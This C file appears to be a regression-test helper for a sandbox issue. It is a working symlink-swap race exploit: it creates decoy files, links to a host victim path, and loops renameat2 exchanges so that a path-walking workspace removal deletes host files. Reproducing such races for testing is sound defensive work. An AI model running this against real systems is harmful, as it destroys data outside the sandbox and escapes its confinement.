/* A hostile command for the bwrap workspace-removal race (issue #12): run
 * inside a lease, it fills dir d/ with files named like the victim's, makes
 * l a symlink to a host path (the victim), writes "ready", then exchanges d
 * and l (renameat2 RENAME_EXCHANGE) in a loop, so a removal that walks path
 * strings ends up in the victim. It exits by itself after max_seconds so a
 * test never hangs on it. Usage: swap_race VICTIM_PATH FILES MAX_SECONDS */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	long files, max_s;
	time_t end;
	char name[64];
	int fd;

	if (argc != 4) {
		fprintf(stderr, "usage: swap_race VICTIM_PATH FILES MAX_SECONDS\n");
		return 2;
	}
	files = atol(argv[2]);
	max_s = atol(argv[3]);
	if (mkdir("d", 0755) != 0 || mkdir("d/sub", 0755) != 0 || symlink(argv[1], "l") != 0) {
		perror("swap_race: setup");
		return 1;
	}
	for (long i = 0; i < files; i++) {
		snprintf(name, sizeof name, "d/f%ld", i);
		fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0644);
		if (fd < 0) {
			perror("swap_race: create");
			return 1;
		}
		close(fd);
	}
	fd = open("ready", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
	end = time(NULL) + max_s;
	while (time(NULL) < end)
		for (int k = 0; k < 1000; k++)
			syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE);
	return 0;
}
